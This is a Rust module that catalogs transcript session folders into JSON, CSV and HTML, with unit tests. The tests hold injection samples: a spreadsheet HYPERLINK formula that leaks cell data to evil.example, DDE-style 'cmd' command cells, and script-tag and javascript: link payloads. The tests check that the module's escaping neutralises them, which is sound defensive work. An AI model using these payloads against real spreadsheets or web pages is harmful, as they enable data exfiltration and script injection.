//! `rapporteur catalog DIR`: one catalog over every session folder under DIR: `catalog.json`
//! (everything), `catalog.csv` (a row per session, for spreadsheets) and `index.html` (the
//! sessions with links to their documents, and how often each theme came up, by month).
//! Built only from the session folders, so the catalog of shards written into one DIR equals
//! the catalog of one run over all of it.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Serialize;

use super::Failure;
use crate::exit::Exit;
use crate::fsutil::write_atomic;
use crate::progress::Progress;
use crate::render::templates::{TemplateError, Templates};
use crate::render::{SESSION_JSON, context, documents};
use crate::session::SessionRecord;
use crate::session::naming::Named;
use crate::themes::analysis::Analysis;

/// Themes per taxonomy listed for each session.
const TOP_THEMES: usize = 3;

/// The files a session's row links when present, in the order of their `catalog_rank` (the
/// review page, the minutes and the summary, the plain transcript), then session.json.
fn linked() -> Vec<&'static str> {
    let mut ranked: Vec<(u8, &str)> =
        documents().iter().filter_map(|d| Some((d.catalog_rank()?, d.file_name()))).collect();
    ranked.sort();
    ranked.into_iter().map(|(_, name)| name).chain([SESSION_JSON]).collect()
}

#[derive(Debug, Serialize, PartialEq)]
pub struct Catalog {
    pub sessions: Vec<Entry>,
    /// Every theme among some session's top themes, with the sessions per month.
    pub trends: Vec<Trend>,
}

#[derive(Debug, Serialize, PartialEq)]
pub struct Entry {
    /// The session folder, relative to the catalog.
    pub path: String,
    pub title: String,
    pub date: Option<String>,
    pub duration_s: f64,
    pub duration: String,
    pub speakers: Vec<String>,
    pub languages: Vec<String>,
    pub themes: Vec<ThemeShare>,
    /// Links to the documents present, relative to the catalog.
    pub documents: Vec<Link>,
}

#[derive(Debug, Serialize, PartialEq)]
pub struct ThemeShare {
    pub taxonomy: String,
    pub theme: String,
    pub share_percent: f64,
}

#[derive(Debug, Serialize, PartialEq)]
pub struct Link {
    pub name: String,
    /// Percent-encoded: set into index.html as is.
    pub href: context::Href,
}

#[derive(Debug, Serialize, PartialEq)]
pub struct Trend {
    pub taxonomy: String,
    pub theme: String,
    pub sessions: usize,
    /// (`YYYY-MM` or `undated`, sessions).
    pub by_month: Vec<(String, usize)>,
}

/// Session folders (holding session.json) under `dir`, in path order. Links to folders are
/// not followed: a loop would list one session many times, and a link out of `dir` would
/// catalogue what is not there.
fn sessions(dir: &Path, found: &mut Vec<PathBuf>) -> std::io::Result<()> {
    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)?
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .map(|e| e.path())
        .collect();
    entries.sort();
    for p in entries {
        if p.join(SESSION_JSON).is_file() {
            found.push(p.clone());
        }
        sessions(&p, found)?;
    }
    Ok(())
}

/// The catalog of the session folders under `dir`. A session.json that is not a session
/// record this version reads (another tool's, a newer schema, unreadable) is left out with a
/// `warn`ing rather than failing the catalog of all the others.
pub fn build(dir: &Path, warn: &mut dyn FnMut(String)) -> Result<Catalog, Failure> {
    let mut folders = Vec::new();
    sessions(dir, &mut folders)
        .map_err(|e| Failure::new(Exit::Input, format!("cannot read {}: {e}", dir.display())))?;
    let linked = linked();
    let mut entries = Vec::new();
    for folder in folders {
        let record = match SessionRecord::load(&folder.join(SESSION_JSON)) {
            Ok(record) => record,
            Err(e) => {
                warn(format!("{e}; {} is left out of the catalog", folder.display()));
                continue;
            }
        };
        // Names from speakers.toml and session.toml as the documents have them; a folder whose
        // files do not parse is catalogued without them.
        let named = Named::load(&folder, &record).unwrap_or_else(|_| Named::new(&record, None, &Default::default()));
        // The themes as the folder's analysis has them (made with the taxonomies of its run).
        let analysis = Analysis::read(&folder).unwrap_or_else(Analysis::empty);
        let ctx = context::build(&folder, &named, &analysis);
        let path = folder.strip_prefix(dir).unwrap_or(&folder).to_string_lossy().replace('\\', "/");
        entries.push(Entry {
            title: ctx.session.title.clone(),
            date: ctx.session.date.clone(),
            duration_s: record.duration_s,
            duration: ctx.session.duration.clone(),
            speakers: ctx.speakers.iter().map(|s| s.label.clone()).collect(),
            languages: ctx.session.languages.clone(),
            themes: ctx
                .taxonomies
                .iter()
                .flat_map(|t| {
                    t.themes.iter().take(TOP_THEMES).map(move |th| ThemeShare {
                        taxonomy: t.name.clone(),
                        theme: th.short.clone(),
                        share_percent: th.share_percent,
                    })
                })
                .collect(),
            documents: linked
                .iter()
                .filter(|d| folder.join(d).is_file())
                .map(|d| Link { name: d.to_string(), href: document_href(dir, &folder, d) })
                .collect(),
            path,
        });
    }
    let mut trends: BTreeMap<(String, String), BTreeMap<String, usize>> = BTreeMap::new();
    for e in &entries {
        let month =
            e.date.as_deref().filter(|d| d.len() >= 7).map_or_else(|| "undated".to_string(), |d| d[..7].to_string());
        for t in &e.themes {
            *trends.entry((t.taxonomy.clone(), t.theme.clone())).or_default().entry(month.clone()).or_default() += 1;
        }
    }
    let mut trends: Vec<Trend> = trends
        .into_iter()
        .map(|((taxonomy, theme), months)| Trend {
            taxonomy,
            theme,
            sessions: months.values().sum(),
            by_month: months.into_iter().collect(),
        })
        .collect();
    trends.sort_by(|a, b| {
        a.taxonomy.cmp(&b.taxonomy).then(b.sessions.cmp(&a.sessions)).then_with(|| a.theme.cmp(&b.theme))
    });
    Ok(Catalog { sessions: entries, trends })
}

/// A CSV field, quoted when it must be.
/// One CSV cell. A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, tab or CR
/// first) gets a `'` before it, as OWASP advises: a title is data, never a formula.
fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s }
}

fn csv(c: &Catalog) -> String {
    let mut out = String::from("path,title,date,duration_s,speakers,languages,themes,minutes\n");
    for e in &c.sessions {
        let themes: Vec<String> = e.themes.iter().map(|t| format!("{} ({}%)", t.theme, t.share_percent)).collect();
        let minutes = e.documents.iter().find(|d| d.name == "minutes.md").map_or("", |d| d.href.as_str());
        let row = [
            e.path.as_str(),
            &e.title,
            e.date.as_deref().unwrap_or(""),
            &e.duration_s.to_string(),
            &e.speakers.join("; "),
            &e.languages.join("; "),
            &themes.join("; "),
            minutes,
        ];
        out += &row.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(",");
        out.push('\n');
    }
    out
}

/// A document's link from the catalog: its path under `dir`, percent-encoded per segment
/// (a folder named `a b (1)`, `#1` or `javascript:x` still links to itself).
fn document_href(dir: &Path, folder: &Path, document: &str) -> context::Href {
    context::href(&folder.strip_prefix(dir).unwrap_or(folder).join(document))
}

/// index.html, from the built-in catalog.html through the documents' template environment:
/// every value HTML-escaped, and a Content-Security-Policy as on every page.
fn html(c: &Catalog) -> Result<String, Failure> {
    let failed = |e: TemplateError| Failure::new(Exit::Failed, e.to_string());
    let templates = Templates::load(None).map_err(failed)?;
    let months: Vec<String> = c
        .trends
        .iter()
        .flat_map(|t| t.by_month.iter().map(|(m, _)| m.clone()))
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    templates.render("catalog.html", &minijinja::context! { catalog => c, months => months }).map_err(failed)
}

/// Writes the three catalog files into `dir`, under its catalog lock: two processes
/// cataloguing one folder take turns, and only the holder removes temporary files a killed
/// one left.
pub fn write_catalog(dir: &Path, progress: &Progress) -> Result<Catalog, Failure> {
    let write_fail =
        |e: std::io::Error| Failure::new(Exit::Output, format!("cannot write the catalog in {}: {e}", dir.display()));
    let _lock = crate::fsutil::FolderLock::wait(dir, crate::fsutil::CATALOG_LOCK).map_err(write_fail)?;
    crate::fsutil::remove_stale_temps(dir, &FILES);
    let c = build(dir, &mut |w| progress.warn(&w))?;
    let json = serde_json::to_string_pretty(&c).expect("serialisable") + "\n";
    let page = html(&c)?;
    let _commit = crate::fsutil::commit();
    write_atomic(&dir.join(FILES[0]), json.as_bytes()).map_err(write_fail)?;
    write_atomic(&dir.join(FILES[1]), csv(&c).as_bytes()).map_err(write_fail)?;
    write_atomic(&dir.join(FILES[2]), page.as_bytes()).map_err(write_fail)?;
    Ok(c)
}

/// The catalog's files, in the folder catalogued.
const FILES: [&str; 3] = ["catalog.json", "catalog.csv", "index.html"];

pub fn catalog(dir: &Path, progress: &Progress) -> Vec<Failure> {
    if !dir.is_dir() {
        let f = Failure::new(
            Exit::Input,
            format!("{} is not a folder; give the --out folder of `rapporteur batch` or `run`", dir.display()),
        );
        progress.error(None, &f.message);
        return vec![f];
    }
    match write_catalog(dir, progress) {
        Ok(c) => {
            progress.done(
                &dir.display().to_string(),
                &dir.join("index.html").display().to_string(),
                &format!("{} sessions", c.sessions.len()),
            );
            Vec::new()
        }
        Err(f) => {
            progress.error(None, &f.message);
            vec![f]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Another tool's session.json, a newer schema's and a folder link looping back are
    /// left out (with a warning for the first two), and the rest is catalogued.
    #[test]
    fn foreign_records_and_folder_links_are_left_out() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path();
        std::fs::create_dir_all(out.join("ours")).unwrap();
        std::fs::write(out.join("ours/session.json"), crate::session::record::tests::sample().to_json()).unwrap();
        std::fs::create_dir_all(out.join("other-tool")).unwrap();
        std::fs::write(out.join("other-tool/session.json"), r#"{"user":"x"}"#).unwrap();
        std::fs::create_dir_all(out.join("newer")).unwrap();
        let newer = crate::session::record::tests::sample().to_json().replace(
            &format!("\"schema_version\": {}", crate::session::record::SCHEMA_VERSION),
            "\"schema_version\": 999",
        );
        std::fs::write(out.join("newer/session.json"), newer).unwrap();
        std::os::unix::fs::symlink(".", out.join("loop")).unwrap();
        let mut warnings = Vec::new();
        let c = build(out, &mut |w| warnings.push(w)).unwrap();
        assert_eq!(c.sessions.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), ["ours"]);
        assert_eq!(warnings.len(), 2, "{warnings:?}");
        assert!(
            warnings[0].contains("newer") && warnings[0].contains("999") && warnings[1].contains("other-tool"),
            "{warnings:?}"
        );
    }

    /// Links to a session's documents work whatever its folder is called, and the page allows
    /// no script and no network.
    #[test]
    fn index_links_are_encoded_and_the_page_has_a_policy() {
        let out = Path::new("/o");
        assert_eq!(
            document_href(out, &out.join("javascript:alert(1)"), "review.html").as_str(),
            "./javascript%3Aalert%281%29/review.html"
        );
        assert_eq!(
            document_href(out, &out.join("2026/a b (1)#2?50%"), "minutes.md").as_str(),
            "./2026/a%20b%20%281%29%232%3F50%25/minutes.md"
        );
        let link = Link {
            name: "review.html".into(),
            href: document_href(out, &out.join("x\"><script>alert(1)</script>"), "review.html"),
        };
        let entry = Entry {
            path: "x".into(),
            title: "<script>alert(2)</script>".into(),
            date: None,
            duration_s: 1.0,
            duration: "1 s".into(),
            speakers: vec![],
            languages: vec![],
            themes: vec![],
            documents: vec![link],
        };
        let page = html(&Catalog { sessions: vec![entry], trends: vec![] }).unwrap();
        assert!(!page.contains("<script"), "{page}");
        assert!(page.contains(r#"<a href="./x%22%3E%3Cscript%3Ealert%281%29%3C/script%3E/review.html">"#), "{page}");
        assert!(
            page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';")
                && page.contains("script-src 'none'\">"),
            "{page}"
        );
    }

    #[test]
    fn sessions_link_the_documents_people_read_in_a_fixed_order() {
        assert_eq!(
            linked(),
            [
                "review.html",
                "minutes.md",
                "minutes.html",
                "minutes.docx",
                "summary.md",
                "summary.html",
                "transcript.txt",
                "session.json"
            ]
        );
    }

    #[test]
    fn csv_fields_are_quoted_when_they_must_be() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
    }

    #[test]
    fn csv_cells_are_never_formulas() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        for lead in ["+", "-", "@", "\t", "\r"] {
            assert!(
                csv_field(&format!("{lead}cmd|' /C calc'!A0")).trim_start_matches('"').starts_with('\''),
                "{lead:?}"
            );
        }
        assert_eq!(csv_field("a=b"), "a=b", "only the first character matters");
        assert_eq!(csv_field("42.5"), "42.5");
    }
}
